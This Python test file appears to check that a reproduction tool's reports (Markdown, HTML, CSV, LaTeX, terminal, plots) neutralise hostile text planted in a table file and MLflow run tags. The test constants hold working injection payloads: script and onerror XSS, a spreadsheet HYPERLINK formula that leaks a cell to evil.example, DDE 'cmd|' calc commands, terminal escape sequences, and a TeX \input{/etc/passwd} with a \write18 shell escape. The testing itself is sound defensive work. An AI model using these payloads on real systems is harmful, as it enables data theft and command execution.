"""Text planted in a table file and in a real MLflow store's run tags reaches every output inert:
no script runs in a rendered Markdown or HTML report, no spreadsheet formula in the CSV, no
escape sequence on the terminal, no TeX command in the LaTeX, no mathtext in the plots.

The workspace's tiny table carries the hostile strings in its title, caption, row label and a
claim; its store (written through the MLflow client, as training writes it) carries them in the
seed, precision, run name and failure tags of runs that the report counts.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import helpers_browser as browser
import helpers_workspace as ws
import pytest
import yaml
from typer.testing import CliRunner

from rkrepro.cli.app import app

PWNED = "document.title='pwned'"
SCRIPT = f"<script>{PWNED}</script>"
IMG = f'<img src=x onerror="{PWNED}">'
IFRAME = f'<iframe src="javascript:parent.{PWNED}"></iframe>'
LINK = f"[click](javascript:{PWNED})"
LINES = "ok\n# pwned heading\n| x | y |\n> quoted\n- listed"
OSC_TITLE, CLEAR, CSI_C1 = "\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\x9b31mred"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MATH_BAD = r"cost $\frac{1$ and $x"  # a ValueError in matplotlib's mathtext
MATH_DEEP = "$" + "{" * 60 + "x" + "}" * 60 + "$"  # a RecursionError in mathtext
TEX = r"\input{/etc/passwd}\immediate\write18{touch pwned}^^5cinput"
MARKUP = "[bold]styled[/bold][link=http://evil.example]linked[/link]"

TITLE = f"Tiny {SCRIPT} {IMG} {LINES} {OSC_TITLE}{CLEAR} {MATH_DEEP} {TEX} {MARKUP}"
CAPTION = f"# caption {IFRAME} {LINK} [d]: javascript:{PWNED} {CSI_C1} {MATH_BAD}"
LABEL = f"{FORMULA} {IMG} | split {LINES} {MATH_BAD} {OSC_TITLE} {TEX}"
SECTION = f"{AT}\n# pwned section {SCRIPT}"
CLAIM = f"{DDE} {SCRIPT} {LINK} {LINES} {CLEAR}"
SEED = f"{MINUS}{OSC_TITLE}{CLEAR}{SCRIPT}"
PRECISION = f"{AT}{OSC_TITLE}{IMG}{CSI_C1}"

# Every character a terminal acts on (C0 but newline, DEL, C1); none may reach stdout.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def _hostile_table() -> str:
    table = yaml.safe_load(ws.TINY_TABLE)
    table["title"], table["caption"] = TITLE, CAPTION
    table["rows"][0]["label"] = LABEL
    table["rows"][0]["original"]["error"] = 7.5  # reproduced 7.0: a difference of -0.5
    table["claims"] = [
        {
            "id": "hostile",
            "section": SECTION,
            "text": CLAIM,
            "quantity": "error",
            "relation": "less",
            "left": {"model": "variant"},
            "right": {"model": "original"},
        }
    ]
    return yaml.safe_dump(table, allow_unicode=True)


def _fill_store(uri: str) -> None:
    """Runs of the tiny table's cells, counted by the report, with hostile tags."""
    from mlflow import MlflowClient
    from mlflow.entities import Metric

    from rkrepro.paper import readings
    from rkrepro.tracking import keys as k

    client = MlflowClient(tracking_uri=uri)
    experiment = client.create_experiment(k.experiment_name("tiny"))
    runs = [  # (model, share, seed, precision tag, status)
        ("original", False, SEED, PRECISION, "FINISHED"),
        ("RKNet-1x2_1x1_1x1", False, "1", PRECISION, "FINISHED"),
        ("RKNet-1x2_1x1_1x1", True, FORMULA + OSC_TITLE, "fp32", "FAILED"),
    ]
    for index, (model, share, seed, precision, status) in enumerate(runs):
        tags = {
            k.TAG_TABLE: "tiny",
            k.TAG_ROW: "bc-k4",
            k.TAG_MODEL: model,
            k.TAG_SHARE: "true" if share else "false",
            k.TAG_SEED: seed,
            k.TAG_PROTOCOL: k.PROTOCOL_PAPER,
            k.TAG_PRECISION: precision,  # shown per number: the reading below counts the run
            readings.TAG_PREFIX + "reported_error": "final",
            readings.TAG_PREFIX + "precision": "fp32",
            k.TAG_FAILURE: f"{SCRIPT}{OSC_TITLE}",
        }
        run = client.create_run(experiment, tags=tags, run_name=f"{SCRIPT}{CLEAR}")
        stamp = 1_700_000_000_000 + index
        metrics = [Metric(k.M_TEST_ERROR, 9.0 - e, stamp, e) for e in (1, 2)]
        metrics += [Metric(k.M_FINAL_TEST_ERROR, 7.0, stamp, 0)]
        metrics += [Metric(k.M_BEST_TEST_ERROR, 6.9, stamp, 0)]
        client.log_batch(run.info.run_id, metrics=metrics)
        client.set_terminated(run.info.run_id, status)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """A workspace whose table file and store carry the hostile strings."""
    root = tmp_path_factory.mktemp("hostile")
    env = ws.make_workspace(root, n_train=16, n_test=8)
    (root / "tables" / "tiny.yaml").write_text(_hostile_table(), encoding="utf-8")
    (root / "runs").mkdir()
    _fill_store(f"sqlite:///{root / 'runs' / 'mlflow.db'}")
    return root, env


@pytest.fixture
def rkrepro(hostile, monkeypatch):
    """``rkrepro ARGS`` through the real app in the hostile workspace: (exit code, output)."""
    root, env = hostile
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    for name in ("MLFLOW_TRACKING_URI", "FORCE_COLOR", "TTY_COMPATIBLE", "TTY_INTERACTIVE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(root)

    def invoke(*args: str) -> tuple[int, str]:
        result = CliRunner().invoke(app, list(args), env={"COLUMNS": "200"})
        assert not isinstance(result.exception, Exception) or isinstance(
            result.exception, SystemExit
        ), repr(result.exception)
        return result.exit_code, result.output

    return invoke


def test_the_hostile_strings_reach_the_report(rkrepro) -> None:
    """The fixture is what it claims: the report counts the planted runs and shows the text."""
    code, text = rkrepro("report", "tiny", "--format", "json")
    assert code == 0, text
    assert "pwned heading" in text and "HYPERLINK" in text and "cmd|" in text, text[:3000]
    assert "2+3+cmd" in text and "@SUM" in text  # the seed and the precision tags


# --------------------------------------------------------------------------------------------
# Markdown: structure with a CommonMark parser, then the page in Chromium.


def _markdown_parser():
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True  # a renderer that follows any link, as some do
    return parser


def _tokens(tokens):
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


@pytest.mark.bad_input
@pytest.mark.parametrize("claims", [False, True], ids=["tables", "claims"])
def test_a_markdown_report_is_text_only(rkrepro, claims: bool) -> None:
    args = ["report", "tiny", "--format", "markdown", *(["--claims"] if claims else [])]
    code, text = rkrepro(*args)
    assert code == 0, text
    tokens = list(_tokens(_markdown_parser().parse(text)))
    html_tags = {t.content for t in tokens if t.type in ("html_inline", "html_block")}
    assert html_tags <= {"<br>"}, html_tags  # no raw HTML but rkrepro's own line breaks
    assert not [t for t in tokens if t.type in ("link_open", "image")]
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not [h for h in headings if "pwned" in h and not h.startswith("Tiny")], headings
    # No line of a planted text became a block of its own (a row, a quote, a list item).
    inline = [t.content for t in tokens if t.type == "inline"]
    assert not [c for c in inline if c.startswith(("quoted", "listed", "x |", "pwned"))], inline
    assert "\x1b" not in text and "\x9b" not in text


@pytest.mark.bad_input
@pytest.mark.browser
def test_a_markdown_report_runs_no_script_in_a_browser(rkrepro, tmp_path: Path) -> None:
    """Rendered by a CommonMark renderer with HTML enabled and opened in Chromium, the report
    leaves the page's title alone (each planted script would set it) and adds no element."""
    body = []
    for claims in (False, True):
        args = ["report", "tiny", "--format", "markdown", *(["--claims"] if claims else [])]
        code, text = rkrepro(*args)
        assert code == 0, text
        body.append(_markdown_parser().render(text))
    page = tmp_path / "report.html"
    page.write_text(
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>report</title></head><body>"
        + "\n".join(body)
        + "</body></html>",
        encoding="utf-8",
    )
    dom = browser.run(page.as_uri(), dump_dom=True, budget_ms=3000)
    assert "<title>report</title>" in dom and "pwned</title>" not in dom, dom[:500]
    for element in ("<script", "<img", "<iframe", "<a "):
        assert element not in dom, (element, dom[:3000])
    assert "&lt;script&gt;" in dom  # shown as text


# --------------------------------------------------------------------------------------------
# CSV: no cell a spreadsheet would run.

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.bad_input
@pytest.mark.parametrize("claims", [False, True], ids=["tables", "claims"])
def test_a_csv_report_has_no_formula(rkrepro, claims: bool) -> None:
    code, text = rkrepro("report", "tiny", "--format", "csv", *(["--claims"] if claims else []))
    assert code == 0, text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only numbers (e.g. a negative difference) begin so: never text
    quoted = {"'" + FORMULA.split("(")[0], "'" + AT.split("(")[0]} if not claims else {"'@SUM"}
    for start in quoted:
        assert any(cell.startswith(start) for cell in cells), (start, cells)
    if claims:
        assert any(cell.startswith("'" + DDE[:4]) for cell in cells), cells
    else:
        assert any(cell.startswith("'-2+3+cmd") for cell in cells), cells  # the seed tag
        assert any(cell.startswith("-") and float(cell) < 0 for cell in cells), cells


# --------------------------------------------------------------------------------------------
# Terminal: no control character in anything printed, store values included.

TERMINAL_COMMANDS = {
    "status": ("status", "tiny"),
    "status shortened": ("status", "tiny", "--include-shortened"),
    "report": ("report", "tiny"),
    "report claims": ("report", "tiny", "--claims"),
    "list": ("list", "tiny"),
    "show": ("show", "tiny", "--row", "bc-k4"),
    "run dry run": ("run", "tiny", "--row", "bc-k4", "--dry-run", "--device", "cpu"),
}


@pytest.mark.bad_input
@pytest.mark.parametrize("case", sorted(TERMINAL_COMMANDS))
def test_the_terminal_gets_no_control_character(rkrepro, case: str) -> None:
    code, text = rkrepro(*TERMINAL_COMMANDS[case])
    assert code == 0, text
    assert not CONTROL.findall(text), (CONTROL.findall(text), text[:3000])
    if case.startswith("status"):
        assert "2+3+cmd" in text  # the seed tag is shown, as text
    if case == "report":
        assert "@SUM" in text  # the precision tag
    squeezed = "".join(text.split())  # rich markup is shown as text, wherever lines wrap
    assert "styled" not in squeezed or "[bold]styled[/bold][link=" in squeezed


# --------------------------------------------------------------------------------------------
# HTML and LaTeX.


@pytest.mark.bad_input
@pytest.mark.browser
def test_an_html_report_runs_no_script_in_a_browser(rkrepro, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    # Without the plots (inlined by default), the page holds no image of its own: any <img> in
    # it would come from the data.
    code, text = rkrepro("report", "tiny", "--out", str(out), "--no-plots")
    assert code == 0, text
    page = out.read_text(encoding="utf-8")
    assert "<script" not in page and "<iframe" not in page and "<img" not in page
    dom = browser.run(out.as_uri(), dump_dom=True, budget_ms=3000)
    assert "<title>rkrepro report</title>" in dom, dom[:500]
    for element in ("<script", "<img", "<iframe"):
        assert element not in dom, (element, dom[:3000])
    assert "&lt;script&gt;" in dom and "hostile" in dom  # the claims are on the page


@pytest.mark.bad_input
def test_a_latex_report_has_no_command_from_the_data(rkrepro) -> None:
    code, text = rkrepro("report", "tiny", "--format", "latex")
    assert code == 0, text
    for command in (r"\input{", r"\write18", r"\immediate", "^^5c", "\x1b"):
        assert command not in text, command
    body = text.split(r"\midrule")[1].split(r"\bottomrule")[0].strip().splitlines()
    columns = text.split(r"\begin{tabular}{")[1].split("}")[0]
    for line in body:  # every row whole: its cells and its end, nothing split by a newline
        if line != r"\addlinespace":
            assert (
                line.endswith(r" \\") and len(re.findall(r"(?<!\\)&", line)) == len(columns) - 1
            ), line


# --------------------------------------------------------------------------------------------
# Plots: titles and labels as plain text.


@pytest.mark.bad_input
def test_plots_draw_dollar_signs_as_text(rkrepro, tmp_path: Path) -> None:
    """An unbalanced or deeply nested ``$...$`` in a title or label ended ``report --plots`` in
    a ValueError or a RecursionError from matplotlib's mathtext."""
    import time

    start = time.monotonic()
    code, text = rkrepro("report", "tiny", "--plots", str(tmp_path / "plots"))
    assert code == 0, text[-3000:]
    assert time.monotonic() - start < 60
    pngs = sorted(p.name for p in (tmp_path / "plots").iterdir())
    assert pngs == ["tiny_bc-k4_curves.png", "tiny_params_vs_error.png"], pngs
